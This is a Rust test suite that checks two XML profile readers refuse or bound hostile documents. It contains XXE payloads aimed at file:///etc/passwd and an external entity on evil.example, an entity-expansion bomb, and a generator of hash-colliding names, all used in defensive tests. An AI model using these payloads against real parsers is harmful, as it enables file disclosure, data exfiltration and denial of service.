//! Documents made to harm, refused by both readers alike.

use std::time::{Duration, Instant};

use offhook_device_profile::mpp::FlatProfile;
use offhook_device_profile::room_os::Configuration;
use offhook_device_profile::{Document, DocumentError, DocumentFault, Limits, SettingsError};

/// What both readers say to a document of theirs with `inside` inside and `before` before it.
fn faults(before: &str, inside: &str) -> [DocumentFault; 2] {
    ["flat-profile", "Configuration"].map(|root| {
        let xml = format!("{before}<{root}>{inside}</{root}>");
        read(root, xml.as_bytes(), &Limits::default())
            .unwrap_err()
            .fault
    })
}

fn read(root: &str, xml: &[u8], limits: &Limits) -> Result<(), DocumentError> {
    if root == "Configuration" {
        Configuration::parse(xml, limits).map(|_| ())
    } else {
        FlatProfile::parse(xml, limits).map(|_| ())
    }
}

#[test]
fn document_types_are_refused_before_they_can_define_anything() {
    for before in [
        "<!DOCTYPE x>",
        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
        "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
        "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY % a SYSTEM \"http://evil.example/\"> %a;]>",
    ] {
        assert_eq!(
            faults(before, "<A>&b;</A>"),
            [DocumentFault::Doctype; 2],
            "{before}"
        );
    }
}

#[test]
fn entities_other_than_the_five_are_refused() {
    for reference in [
        "&a;",
        "&nbsp;",
        "&#0;",
        "&#1;",
        "&#xFFFE;",
        "&#xD800;",
        "&#x110000;",
        "&#;",
        "&#x;",
        "&AMP;",
        "&#+65;",
        "&#x+41;",
        "&#00000000000000065;",
        "&#x00000000000000041;",
    ] {
        assert_eq!(
            faults("", &format!("<A>{reference}</A>")),
            [DocumentFault::Entity; 2],
            "{reference}"
        );
        let attribute = format!("<A ua=\"{reference}\" item=\"{reference}\"/>");
        assert_eq!(
            faults("", &attribute),
            [DocumentFault::Entity; 2],
            "{reference}"
        );
    }
}

#[test]
fn references_have_sixteen_digits_at_most() {
    let xml =
        "<Configuration><A item='&#0000000000000049;'>&#x0000000000000041;</A></Configuration>";
    let read = Configuration::parse(xml.as_bytes(), &Limits::default()).unwrap();
    assert_eq!(read.text("A 1"), Some("A"));
}

#[test]
fn what_is_not_well_formed_is_refused() {
    for inside in [
        "<A>",
        "</A>",
        "<A></B>",
        "<A>&amp</A>",
        "<A>&</A>",
        "<!-- -- -->",
        "<![CDATA[",
        "<?x",
    ] {
        assert_eq!(faults("", inside), [DocumentFault::Syntax; 2], "{inside}");
    }
    for root in ["flat-profile", "Configuration"] {
        for xml in [
            format!("<{root}/><{root}/>"),
            format!("<{root}/>x"),
            format!("<{root}>"),
        ] {
            let error = read(root, xml.as_bytes(), &Limits::default()).unwrap_err();
            assert_eq!(error.fault, DocumentFault::Syntax, "{xml}");
        }
    }
}

#[test]
fn bytes_that_are_no_xml_text_are_refused_where_they_stand() {
    for root in ["flat-profile", "Configuration"] {
        for (byte, fault) in [
            (0, DocumentFault::Character),
            (0xff, DocumentFault::Encoding),
        ] {
            let mut xml = format!("<{root}><A>_</A></{root}>").into_bytes();
            let at = xml.iter().position(|byte| *byte == b'_').unwrap();
            xml[at] = byte;
            let error = read(root, &xml, &Limits::default()).unwrap_err();
            assert_eq!((error.at, error.fault), (at as u64, fault));
        }
    }
    assert_eq!(faults("", "<A>\u{fffe}</A>"), [DocumentFault::Character; 2]);
    let latin = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>";
    assert_eq!(faults(latin, ""), [DocumentFault::Encoding; 2]);
}

#[test]
fn depth_elements_and_length_are_bounded_to_the_one() {
    let nested = |levels: usize| format!("{}{}", "<A>".repeat(levels), "</A>".repeat(levels));
    for root in ["flat-profile", "Configuration"] {
        let answer = |inside: &str, limits: &Limits| {
            let xml = format!("<{root}>{inside}</{root}>");
            read(root, xml.as_bytes(), limits).map_err(|error| error.fault)
        };
        let limits = Limits::default();
        assert_eq!(answer(&nested(31), &limits), Ok(()));
        assert_eq!(answer(&nested(32), &limits), Err(DocumentFault::TooDeep));
        assert_eq!(
            answer(&nested(100_000), &limits),
            Err(DocumentFault::TooDeep)
        );
        let mut few = Limits::default();
        few.elements = 3;
        assert_eq!(answer("<A/><B/>", &few), Ok(()));
        assert_eq!(
            answer("<A/><B/><C/>", &few),
            Err(DocumentFault::TooManyElements)
        );
        let mut short = Limits::default();
        short.document_bytes = format!("<{root}><A/></{root}>").len();
        assert_eq!(answer("<A/>", &short), Ok(()));
        assert_eq!(answer("<AB/>", &short), Err(DocumentFault::TooLarge));
    }
}

#[test]
fn attributes_are_few_and_each_is_there_once() {
    let of = |count: usize| {
        let attributes: Vec<String> = (0..count).map(|n| format!("a{n}=''")).collect();
        format!("<A {}/>", attributes.join(" "))
    };
    for root in ["flat-profile", "Configuration"] {
        let xml = format!("<{root}>{}</{root}>", of(32));
        assert!(read(root, xml.as_bytes(), &Limits::default()).is_ok());
    }
    assert_eq!(faults("", &of(33)), [DocumentFault::Attribute; 2]);
    assert_eq!(faults("", "<A a='' a=''/>"), [DocumentFault::Attribute; 2]);
    assert_eq!(faults("", "<A a/>"), [DocumentFault::Attribute; 2]);
}

#[test]
fn blanks_and_comments_without_end_behind_the_root_take_no_stack() {
    for root in ["flat-profile", "Configuration"] {
        for more in SEEDS_BESIDE_THE_ROOT {
            let room = Limits::default().document_bytes - root.len() - 3;
            let behind = format!("<{root}/>{}", more.repeat(room / more.len()));
            let before = format!("{}<{root}/>", more.repeat(room / more.len()));
            for xml in [behind, before] {
                assert_eq!(
                    read(root, xml.as_bytes(), &Limits::default()),
                    Ok(()),
                    "{more}"
                );
            }
        }
    }
}

#[test]
fn references_are_refused_beside_the_root() {
    for root in ["flat-profile", "Configuration"] {
        for xml in [
            format!("<{root}/>&#65;"),
            format!("&amp;<{root}/>"),
            format!("<{root}/> &#32;"),
        ] {
            let error = read(root, xml.as_bytes(), &Limits::default()).unwrap_err();
            assert_eq!(error.fault, DocumentFault::Syntax, "{xml}");
        }
    }
}

#[test]
#[expect(clippy::disallowed_methods, reason = "it is the time that is tested")]
fn hostile_documents_take_linear_time() {
    let start = Instant::now();
    for inside in [
        format!("<A {}/>", "a='' ".repeat(200_000)),
        "<A/>".repeat(200_000),
        format!("<A>{}</A>", "&#10;".repeat(200_000)),
        format!("<A>{}</A>", "\n".repeat(1_000_000)),
        "<!---->".repeat(140_000),
        "<".repeat(1_000_000),
        format!("<A>{}</A>", "a&amp;".repeat(160_000)),
    ] {
        for root in ["flat-profile", "Configuration"] {
            let xml = format!("<{root}>{inside}</{root}>");
            let _ = read(root, xml.as_bytes(), &Limits::default());
        }
    }
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
}

#[test]
#[expect(clippy::disallowed_methods, reason = "it is the time that is tested")]
fn what_is_done_with_long_documents_takes_linear_time() {
    let start = Instant::now();
    let limits = Limits::default();
    // Each line below another container.
    let lines: String = (1..=19_900)
        .map(|item| format!("xConfiguration A {item} B: 1\n"))
        .collect();
    let read = Configuration::parse_command_lines(&lines, &limits).unwrap();
    assert_eq!(read.values().count(), 19_900);
    // The same name again and again.
    let xml = format!("<flat-profile>{}</flat-profile>", "<A>1</A>".repeat(19_900));
    let mut profile = FlatProfile::parse(xml.as_bytes(), &limits).unwrap();
    assert!(profile.remove("A") && !profile.remove("A"));
    assert_eq!(profile.parameters().count(), 0);
    assert!(
        start.elapsed() < Duration::from_secs(10),
        "{:?}",
        start.elapsed()
    );
}

#[test]
#[expect(clippy::disallowed_methods, reason = "it is the time that is tested")]
fn paths_below_a_long_tag_take_linear_time() {
    let start = Instant::now();
    let limits = Limits::default();
    let inner: String = (0..9_000).map(|number| format!("<b{number}/>")).collect();
    // Names of one hash, so that each path below the one is compared with paths below the other.
    let [one, other] = ["Aaaaaaaabbbbbbbb", "ThePEUsIDLeJafuq"].map(|name| {
        let long = "&#0000000000000049;".repeat(20_000);
        format!("<{name} x='{long}' item='1'>{inner}</{name}>")
    });
    let xml = format!("<Configuration>{one}{other}</Configuration>");
    let read = Configuration::parse(xml.as_bytes(), &limits).unwrap();
    let again = read.clone();
    assert_eq!(read, again);
    assert!(read.command_lines().is_some());
    let [read, again] = [read, again].map(Document::Configuration);
    for _ in 0..10 {
        assert_eq!(read.differences(&again).unwrap(), []);
    }
    assert!(
        start.elapsed() < Duration::from_secs(10),
        "{:?}",
        start.elapsed()
    );
}

#[test]
#[expect(clippy::disallowed_methods, reason = "it is the time that is tested")]
fn a_group_is_read_once_for_all_lines() {
    let start = Instant::now();
    let priority = "&#0000000000000049;".repeat(2_800);
    let member = format!(
        "<member priority='{priority}'><callManager><processNodeName>h</processNodeName></callManager></member>"
    );
    let line = "<line button='1'><proxy>USECALLMANAGER</proxy><name>1</name></line>";
    let xml = format!(
        "<device><devicePool><callManagerGroup><members>{}</members></callManagerGroup></devicePool>\
         <sipProfile><sipLines>{}</sipLines></sipProfile></device>",
        member.repeat(16),
        line.repeat(256)
    );
    let document = Document::parse(xml.as_bytes(), &Limits::default()).unwrap();
    for _ in 0..10 {
        let settings = document.settings();
        assert!(settings.iter().all(|(_, settings)| settings.is_ok()));
        assert_eq!(document.warnings(&Limits::default()), []);
    }
    assert!(
        start.elapsed() < Duration::from_secs(10),
        "{:?}",
        start.elapsed()
    );
}

#[test]
fn lines_and_servers_are_bounded() {
    let device = |servers: usize, lines: usize| {
        let member =
            "<member><callManager><processNodeName>h</processNodeName></callManager></member>";
        let line = "<line button='1'><featureID>9</featureID><proxy>USECALLMANAGER</proxy><name>1</name></line>";
        let xml = format!(
            "<device><devicePool><callManagerGroup><members>{}</members></callManagerGroup></devicePool>\
            <sipProfile><sipLines>{}</sipLines></sipProfile></device>",
            "<member/>".repeat(20) + &member.repeat(servers),
            line.repeat(lines)
        );
        Document::parse(xml.as_bytes(), &Limits::default())
            .unwrap()
            .settings()
    };
    let settings = device(16, 256);
    assert_eq!(settings.len(), 256);
    assert!(settings.iter().all(|(_, settings)| settings.is_ok()));
    let backups = settings[0].1.as_ref().unwrap().backups();
    assert_eq!(backups.count(), 15);
    let settings = device(1, 300);
    assert_eq!(settings.len(), 257);
    assert_eq!(
        *settings[256].1.as_ref().unwrap_err(),
        SettingsError::TooManyLines
    );
    assert!(settings[..256].iter().all(|(_, settings)| settings.is_ok()));
    let settings = device(17, 1);
    assert_eq!(
        *settings[0].1.as_ref().unwrap_err(),
        SettingsError::TooManyServers
    );
}

/// What may stand without end before and behind a root, each also a seed for fuzzing.
const SEEDS_BESIDE_THE_ROOT: [&str; 3] = [" <!---->", "\r\n<?x?>", "<!---->"];

/// Names with the numbers that make their hashes equal: what a number changes in the hash, three
/// letters change back.
fn alike() -> Vec<(String, u32)> {
    let word = u32::from_le_bytes(*b"AAAA");
    let all = (1..65_536).map(|item| ((word ^ (item << 5)).to_le_bytes(), item));
    all.filter(|(name, _)| name.iter().all(u8::is_ascii_alphanumeric))
        .filter(|(name, _)| name[0].is_ascii_alphabetic())
        .map(|(name, item)| (String::from_utf8_lossy(&name).into_owned() + "AAAA", item))
        .collect()
}

#[test]
fn paths_made_to_be_found_in_one_place_are_found_apart() {
    let alike = alike();
    let mut lines = String::new();
    let mut xml = String::from("<Configuration>");
    for (number, (outer, at)) in alike.iter().take(4).enumerate() {
        xml.push_str(&format!("<{outer} item=\"{at}\">"));
        for (inner, item) in alike.iter().take(2_000) {
            lines.push_str(&format!(
                "xConfiguration {outer} {at} {inner} {item}: {number}\n"
            ));
            xml.push_str(&format!("<{inner} item=\"{item}\">{number}</{inner}>"));
        }
        xml.push_str(&format!("</{outer}>"));
    }
    xml.push_str("</Configuration>");
    let limits = Limits::default();
    let read = Configuration::parse_command_lines(&lines, &limits).unwrap();
    assert_eq!(read.values().count(), 8_000);
    assert_eq!(read, Configuration::parse(xml.as_bytes(), &limits).unwrap());
    let (outer, at) = &alike[3];
    let (inner, item) = &alike[1_999];
    let path = format!("{outer}[{at}] {inner}[{item}]");
    assert_eq!(read.text(&path), Some("3"));
}
